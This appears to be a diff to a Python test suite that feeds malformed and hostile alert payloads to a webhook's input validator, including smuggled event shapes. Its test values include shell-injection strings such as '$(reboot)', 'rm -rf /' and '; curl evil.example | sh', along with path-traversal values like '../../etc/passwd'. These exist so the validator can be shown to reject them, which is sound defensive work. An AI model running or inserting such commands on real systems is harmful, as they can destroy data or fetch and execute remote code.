@@ -18,6 +18,11 @@ SNS = load("sns-high-cpu-alarm.json")
 DIRECT = load("direct-high-cpu-alarm.json")
 AM = load("alertmanager-high-cpu.json")
 FU = load("function-url-alertmanager.json")
+# One bad alert of a batch no longer drops the good ones (they are handled,
+# the bad one reported), so a payload is bad input only when every alert is:
+# the per-alert cases start from the sample's first alert alone.
+AM1 = copy.deepcopy(AM)
+AM1["alerts"] = AM["alerts"][:1]
 
 cases = []  # (name, bytes, expected substring, webhook: bool)
 
@@ -120,32 +125,44 @@ mutate("direct-instance-path", DIRECT, ["alarmData", "configuration", "metrics",
 
 # Alertmanager webhook payloads (also sent to the webhook: 4xx).
 A0 = ["alerts", 0]
+# A payload that is also another event shape: refused whole, never guessed.
+smuggled = copy.deepcopy(AM1)
+smuggled.update({"detail-type": "CloudWatch Alarm State Change", "source": "aws.cloudwatch",
+                 "detail": {"alarmName": "forged", "configuration": {"metrics": [{"metricStat": {"metric": {
+                     "namespace": "AWS/EC2", "name": "CPUUtilization", "dimensions": {"AutoScalingGroupName": "web-asg"}}}}]}}})
+raw("am-smuggled-cloudwatch-event", json.dumps(smuggled), "`detail-type`", webhook=True)
+smuggled = copy.deepcopy(AM1)
+smuggled["Records"] = [{"EventSource": "aws:sns", "Sns": {"Message": "{}"}}] * 300
+raw("am-smuggled-sns-records", json.dumps(smuggled), "`Records`", webhook=True)
 mutate("am-version-3", AM, ["version"], "3", "field `version`", webhook=True)
 mutate("am-version-number", AM, ["version"], 4, "version", webhook=True)
 mutate("am-no-alerts", AM, ["alerts"], [], "field `alerts`", webhook=True)
 mutate("am-alerts-object", AM, ["alerts"], {"a": 1}, "alerts", webhook=True)
-mutate("am-status-bad", AM, A0 + ["status"], "pending", "alerts[0].status", webhook=True)
-mutate("am-labels-list", AM, A0 + ["labels"], ["alertname"], "alerts[0].labels", webhook=True)
-mutate("am-label-number", AM, A0 + ["labels", "job"], 9100, "alerts[0].labels.job", webhook=True)
-mutate("am-no-alertname", AM, A0 + ["labels", "alertname"], None, "alerts[0].labels.alertname", webhook=True, delete=True)
-mutate("am-alertname-subshell", AM, A0 + ["labels", "alertname"], "$(reboot)", "alerts[0].labels.alertname", webhook=True)
-mutate("am-alertname-path", AM, A0 + ["labels", "alertname"], "../../HighCPUUsage", "alerts[0].labels.alertname", webhook=True)
+mutate("am-status-bad", AM1, A0 + ["status"], "pending", "alerts[0].status", webhook=True)
+mutate("am-labels-list", AM1, A0 + ["labels"], ["alertname"], "alerts[0].labels", webhook=True)
+mutate("am-label-number", AM1, A0 + ["labels", "job"], 9100, "alerts[0].labels.job", webhook=True)
+mutate("am-no-alertname", AM1, A0 + ["labels", "alertname"], None, "alerts[0].labels.alertname", webhook=True, delete=True)
+mutate("am-alertname-subshell", AM1, A0 + ["labels", "alertname"], "$(reboot)", "alerts[0].labels.alertname", webhook=True)
+mutate("am-alertname-path", AM1, A0 + ["labels", "alertname"], "../../HighCPUUsage", "alerts[0].labels.alertname", webhook=True)
 for n, v in [("semicolon", "10.0.1.5;reboot:9100"), ("subshell", "$(id):9100"), ("path", "../../etc/passwd"),
              ("port", "10.0.1.5:99999"), ("backticks", "`hostname`:9100"), ("space", "10.0.1.5 :9100")]:
-    mutate(f"am-instance-{n}", AM, A0 + ["labels", "instance"], v, "alerts[0].labels.instance", webhook=True)
-mutate("am-instance-id-injection", AM, A0 + ["labels", "instance_id"], "i-0123;halt", "alerts[0].labels.instance_id", webhook=True)
-mutate("am-starts-at-bad", AM, A0 + ["startsAt"], "yesterday", "alerts[0].startsAt", webhook=True)
-mutate("am-no-starts-at", AM, A0 + ["startsAt"], None, "alerts[0]", webhook=True, delete=True)
-mutate("am-fingerprint-path", AM, A0 + ["fingerprint"], "../../../etc", "alerts[0].fingerprint", webhook=True)
-mutate("am-no-fingerprint", AM, A0 + ["fingerprint"], None, "alerts[0].fingerprint", webhook=True, delete=True)
-mutate("am-value-text", AM, A0 + ["annotations", "value"], "rm -rf /", "alerts[0].annotations.value", webhook=True)
-mutate("am-second-alert-bad", AM, ["alerts", 1, "labels", "instance"], "x;y:1", "alerts[1].labels.instance", webhook=True)
+    mutate(f"am-instance-{n}", AM1, A0 + ["labels", "instance"], v, "alerts[0].labels.instance", webhook=True)
+mutate("am-instance-id-injection", AM1, A0 + ["labels", "instance_id"], "i-0123;halt", "alerts[0].labels.instance_id", webhook=True)
+mutate("am-starts-at-bad", AM1, A0 + ["startsAt"], "yesterday", "alerts[0].startsAt", webhook=True)
+mutate("am-no-starts-at", AM1, A0 + ["startsAt"], None, "alerts[0]", webhook=True, delete=True)
+mutate("am-fingerprint-path", AM1, A0 + ["fingerprint"], "../../../etc", "alerts[0].fingerprint", webhook=True)
+mutate("am-no-fingerprint", AM1, A0 + ["fingerprint"], None, "alerts[0].fingerprint", webhook=True, delete=True)
+mutate("am-value-text", AM1, A0 + ["annotations", "value"], "rm -rf /", "alerts[0].annotations.value", webhook=True)
+every_bad = copy.deepcopy(AM)
+for a in every_bad["alerts"]:
+    a["labels"]["instance"] = "x;y:1"
+raw("am-every-alert-bad", json.dumps(every_bad), "alerts[0].labels.instance", webhook=True)
 
 # Function URL requests (the webhook's input shape), as the CLI reads them.
 mutate("fu-body-not-json", FU, ["body"], "alertname=HighCPUUsage", "field `body`")
 mutate("fu-body-bad-base64", FU, ["isBase64Encoded"], True, "field `body`: marked base64")
 mutate("fu-body-cloudwatch-event", FU, ["body"], json.dumps(EB), "body")
-bad_label = copy.deepcopy(AM)
+bad_label = copy.deepcopy(AM1)
 bad_label["alerts"][0]["labels"]["instance"] = "10.0.1.5:9100; curl evil.example | sh"
 mutate("fu-body-label-injection", FU, ["body"], json.dumps(bad_label), "body.alerts[0].labels.instance")
 mutate("fu-body-number", FU, ["body"], 4, "body")
